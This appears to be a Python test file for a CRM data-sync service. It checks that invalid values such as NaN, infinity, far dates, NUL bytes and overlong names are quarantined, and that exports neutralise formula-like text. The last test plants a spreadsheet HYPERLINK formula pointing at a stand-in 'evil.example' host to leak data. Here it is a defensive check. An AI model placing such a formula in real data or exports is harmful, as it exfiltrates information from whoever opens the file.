"""Values no database or figure can hold are quarantined by record and field, the same on SQLite and
PostgreSQL, and the rest of the run lands (issue 18)."""

import math

import polars as pl

from domain.canonical import Domain
from domain.figures import WEIGHTED_OPEN_PIPELINE
from domain.roles import system_access
from services.reconcile import accounts_frame, reconcile_accounts
from services.sync import run_sync
from storage.connections import list_connections
from storage.db import session_scope
from storage.frames import read_workspace_table


def _sync(workspace, **kwargs):
    settings, engine, ws, _ = workspace
    return run_sync(engine, settings, ws, trigger="test", access=system_access("t"), **kwargs)


def test_nan_infinity_far_dates_nul_bytes_and_long_text_are_quarantined_by_name(workspace):
    settings, engine, ws, folder = workspace
    rows = pl.read_csv(folder / "opportunities.csv", infer_schema=False)
    ids = rows["Id"].to_list()[:6]
    bad = {
        ids[0]: ("Amount", "NaN"),
        ids[1]: ("Amount", "1e309"),
        ids[2]: ("Amount", "-inf"),
        ids[3]: ("CloseDate", "9999-12-31"),
        ids[4]: ("Name", "Deal\x00with a NUL"),
        ids[5]: ("Name", "x" * 5000),
    }
    for source_id, (column, value) in bad.items():
        rows = rows.with_columns(
            pl.when(pl.col("Id") == source_id).then(pl.lit(value)).otherwise(pl.col(column)).alias(column)
        )
    rows.write_csv(folder / "opportunities.csv")

    summary = _sync(workspace)
    assert math.isfinite(summary.domains[Domain.PIPELINE].totals_after[WEIGHTED_OPEN_PIPELINE])
    held = read_workspace_table(engine, "quarantine", ws).filter(pl.col("source_id").is_in(list(bad)))
    found = {(r["source_id"], r["field"], r["reason_code"]) for r in held.to_dicts()}
    assert found >= {  # (the demo plants bad rows of its own too)
        (ids[0], "Amount", "invalid_value"),
        (ids[1], "Amount", "invalid_value"),
        (ids[2], "Amount", "invalid_value"),
        (ids[3], "CloseDate", "out_of_range"),
        (ids[4], "Name", "invalid_value"),
        (ids[5], "Name", "text_too_long"),
    }
    landed = read_workspace_table(engine, "opportunities", ws)
    assert landed.filter(pl.col("source_id").is_in(list(bad))).is_empty()
    assert landed.height > 250  # the rest of the run landed
    assert landed["amount"].is_finite().all()


def test_accounts_with_text_no_database_keeps_are_held_back_by_name(workspace):
    settings, engine, ws, folder = workspace
    accounts = pl.read_csv(folder / "accounts.csv", infer_schema=False)
    new = accounts.head(2).with_columns(
        pl.Series("Id", ["001Dm0000009991IAA", "001Dm0000009992IAA"]),
        pl.Series("Name", ["Bad\x00Name GmbH", "N" * 5000]),
    )
    pl.concat([accounts, new]).write_csv(folder / "accounts.csv")
    with session_scope(engine) as session:
        connection = list_connections(session, ws)[0]
        result = reconcile_accounts(session, connection.id, "accounts", settings, access=system_access("t"))
    assert {(account, field) for account, field, _ in result.held} == {
        ("001Dm0000009991IAA", "name"),
        ("001Dm0000009992IAA", "name"),
    }
    assert "Account 001Dm0000009992IAA not reconciled: name is 5000 characters long (at most 255)." in (
        result.held_lines()
    )
    crosswalk = read_workspace_table(engine, "crosswalk", ws)
    assert not crosswalk["source_account_id"].is_in(["001Dm0000009991IAA", "001Dm0000009992IAA"]).any()
    assert accounts_frame(pl.DataFrame({"source_id": ["a"], "Name": ["A"]})).columns[0] == "source_account_id"


def test_a_deal_named_like_a_formula_is_exported_as_text(workspace, tmp_path):
    from services.exports import export_frame, to_csv_bytes, write_export

    settings, engine, ws, folder = workspace
    rows = pl.read_csv(folder / "opportunities.csv", infer_schema=False)
    first = rows["Id"][0]
    formula = '=HYPERLINK("http://evil.example/?leak","Open")'
    rows.with_columns(
        pl.when(pl.col("Id") == first).then(pl.lit(formula)).otherwise(pl.col("Name")).alias("Name")
    ).write_csv(folder / "opportunities.csv")
    _sync(workspace)
    frame = export_frame(engine, "opportunities", ws, system_access("t"))
    for text in (to_csv_bytes(frame, "USD").decode(), _written(frame, tmp_path / "o.csv", write_export)):
        back = pl.read_csv(text.encode(), infer_schema=False)
        assert back.filter(pl.col("source_id") == first)["name"].item() == "'" + formula


def _written(frame, path, write_export):
    write_export(frame, path, parquet=False, reporting_currency="USD")
    return path.read_text()
